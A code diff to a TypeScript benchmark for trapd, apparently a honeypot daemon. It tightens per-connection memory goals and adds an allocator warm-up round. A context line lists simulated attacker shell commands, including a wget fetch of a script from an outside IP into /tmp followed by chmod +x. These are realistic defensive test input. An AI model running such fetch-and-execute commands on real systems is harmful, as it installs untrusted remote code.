@@ -99,10 +99,11 @@ function sshSession(port: number): Promise<void> {
 }
 
 /**
- * Per idle connection: what trapd took before it was cut (conn-memory.ts against trapd of
- * 7e676a2, 2026-12-01, same 2-core machine; first figure of a fresh trapd): the goal is below it.
+ * Per idle connection: what trapd took before it was cut (this bench against trapd of 7e676a2,
+ * 2026-12-01, same 2-core machine, mean of two runs): the goal is below it. The figures move by
+ * ±0.3 KiB (generic) and ±1.5 KiB (ssh) between runs.
  */
-const PER_CONN_GOAL_KIB: Record<string, number> = { generic: 2.2, ssh: 8.2 };
+const PER_CONN_GOAL_KIB: Record<string, number> = { generic: 1.45, ssh: 5.9 };
 
 const SHELL_COMMANDS = ["echo ok", "uname -a", "cat /proc/cpuinfo", "id", "w", "free -m", "ls -la /tmp", "cd /tmp", "wget http://203.0.113.50/bins/x.sh -O /tmp/x", "chmod +x /tmp/x"];
 
@@ -202,6 +203,9 @@ async function run(kind: string, one: () => Promise<void>): Promise<void> {
 /** trapd's RSS per idle open connection to a trap that speaks first (conn-memory.ts). */
 async function perConnection(kind: string, port: number, n: number): Promise<void> {
   const feed = { rss: () => lastRss, reports: () => reports };
+  // A first round warms the allocator (and lets a collection run or not) so the figure is the
+  // steady cost and not where the heap happened to be; the second round is the figure.
+  await bytesPerConnection(feed, port, n);
   const { perConn, opened } = await bytesPerConnection(feed, port, n);
   peakRss = Math.max(peakRss, rss);
   figure(`trapd RSS per open ${kind} connection (${opened}/${n})`, `${(perConn / 1024).toFixed(1)} KiB`, { text: `< ${PER_CONN_GOAL_KIB[kind]} KiB (before)`, met: perConn < PER_CONN_GOAL_KIB[kind]! * 1024 });
@@ -210,7 +214,8 @@ async function perConnection(kind: string, port: number, n: number): Promise<voi
 try {
   console.log(`trapd bench: ${SECONDS} s per kind, ${CONCURRENCY} concurrent clients, loopback (ssh+shell = interactive sessions/s, login + 10 commands)`);
   // Idle connections and held shells first, so the figures are theirs and not the heap left by the load phases below.
-  await perConnection("generic", ports.generic, 2_000);
+  // 8 000 generic connections (RSS per connection is ~1 KiB there: fewer drown in the heap's noise).
+  await perConnection("generic", ports.generic, 8_000);
   await perConnection("ssh", ports.ssh, 2_000);
   await heldShells(ports.ssh, 200);
   await run("warm-up", () => tcpSession(ports.generic, undefined));
